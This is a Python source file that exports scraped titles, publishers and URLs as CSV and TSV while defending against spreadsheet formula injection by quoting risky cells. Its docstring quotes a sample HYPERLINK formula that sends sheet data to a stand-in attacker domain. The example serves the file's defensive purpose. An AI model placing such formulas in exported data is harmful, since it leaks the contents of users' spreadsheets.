"""CSV and TSV for spreadsheets: the one place delimited output is written.

Titles, publishers and URLs are scraped text, and a spreadsheet runs a cell that starts
like a formula (``=HYPERLINK("https://evil.example/?d="&A1)`` leaks the sheet). Every text
cell goes through ``spreadsheet_safe`` (OWASP's rule): a cell starting with ``=``, ``+``,
``-``, ``@``, a tab or a line break, or with spaces before one of those, or with their
full-width forms, gets a leading ``'``, which spreadsheets show as "this is text" and
hide. A cell already starting with ``'`` gets one too, so stripping one leading quote
always gives the original back. Numbers and dates are not text and stay as they are.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable, Sequence
from typing import Any, TextIO

FORMULA_STARTS = frozenset("=+-@\uff1d\uff0b\uff0d\uff20")
"""Formula triggers, ASCII and full-width (＝＋－＠)."""
LINE_STARTS = frozenset("\t\r\n'")
"""First characters that need the quote even without a trigger after them."""


def spreadsheet_safe(value: str) -> str:
    """``value`` as a spreadsheet shows it but never evaluates it (see module docstring)."""
    if not value:
        return value
    first = value.lstrip()[:1]
    if value[0] in LINE_STARTS or first in FORMULA_STARTS:
        return "'" + value
    return value


def safe_cells(row: Iterable[Any]) -> list[Any]:
    """A row with every text cell made ``spreadsheet_safe``; other values unchanged."""
    return [spreadsheet_safe(cell) if isinstance(cell, str) else cell for cell in row]


def write_csv(stream: TextIO, columns: Sequence[str], rows: Iterable[Iterable[Any]]) -> None:
    """A header and ``rows`` as CSV (``None`` as an empty cell), every text cell safe."""
    # RFC 4180 line ends: the writer then quotes a cell holding a lone "\r" too
    writer = csv.writer(stream, lineterminator="\r\n")
    writer.writerow(safe_cells(columns))
    for row in rows:
        writer.writerow(safe_cells("" if cell is None else cell for cell in row))


def write_tsv(stream: TextIO, columns: Sequence[str], rows: Iterable[Iterable[Any]]) -> None:
    """Tab-separated lines, every text cell safe (one record per line: tabs and line
    breaks in a cell become spaces, after the cell was made safe)."""
    for row in [columns, *rows]:
        cells = ("" if cell is None else str(cell) for cell in safe_cells(row))
        stream.write("\t".join(_one_line(cell) for cell in cells) + "\n")


def _one_line(cell: str) -> str:
    return cell.replace("\t", " ").replace("\r", " ").replace("\n", " ")
